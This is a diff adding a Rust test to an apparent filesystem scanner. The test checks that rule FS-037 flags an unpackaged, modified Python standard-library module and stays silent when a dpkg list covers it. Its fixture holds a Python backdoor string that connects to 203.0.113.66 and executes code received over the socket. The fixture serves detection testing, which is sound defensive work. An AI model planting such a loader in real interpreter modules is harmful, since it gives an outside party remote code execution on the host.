@@ -412,3 +412,22 @@ fn identities_do_not_depend_on_the_order_of_files() {
     turned.reverse();
     assert_eq!(ids(files), ids(&turned));
 }
+
+#[test]
+fn modules_of_interpreters_that_no_package_changed_are_told() {
+    const MODULE: &str = "/usr/lib/python3.13/mimetypes.py";
+    let with = |lines: &str, more: &[(&str, u32, &[u8])]| {
+        let mut files = vec![(MODULE, 0o644, lines.as_bytes())];
+        files.extend_from_slice(more);
+        with_changes(&files)
+    };
+    let active = "import socket\ns=socket.create_connection(('203.0.113.66',443))\nwhile 1: exec(s.recv(9))\n";
+    assert_eq!(severity_of(&with(active, &[]), "FS-037", MODULE), Some(Severity::High));
+    let plain = with("import os\n", &[]);
+    assert_eq!(severity_of(&plain, "FS-037", "Python"), Some(Severity::Medium));
+    let listed: &[(&str, u32, &[u8])] =
+        &[("/var/lib/dpkg/info/libpython3.13-stdlib.list", 0o644, b"/usr/lib/python3.13/mimetypes.py\n")];
+    assert!(!with(active, listed).iter().any(|finding| finding.rule.id == "FS-037"), "a package has it");
+    let own = with_changes(&[("/srv/app/mimetypes.py", 0o644, active.as_bytes())]);
+    assert!(!own.iter().any(|finding| finding.rule.id == "FS-037"));
+}
